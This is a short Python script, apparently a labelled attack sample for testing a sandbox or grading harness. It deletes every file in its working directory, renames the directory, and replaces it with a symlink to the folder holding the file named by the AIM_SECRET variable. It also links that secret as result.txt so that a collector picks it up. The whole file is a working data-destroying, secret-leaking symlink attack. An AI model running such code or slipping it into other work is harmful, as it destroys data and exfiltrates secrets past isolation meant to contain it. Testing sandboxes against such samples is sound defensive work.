"""Classes 5, 6. Takes the folder it works in away, and puts a link to others' in its place.

A breach: the collector goes there.
"""

import os
from contextlib import suppress

here = os.getcwd()
for name in os.listdir("."):
    with suppress(OSError):
        os.unlink(name)
with suppress(OSError):
    os.rename(here, here + ".gone")
    os.symlink(os.path.dirname(os.environ["AIM_SECRET"]), here)
    print("replaced")
with suppress(OSError):
    os.symlink(os.environ["AIM_SECRET"], os.path.join(here, "result.txt"))
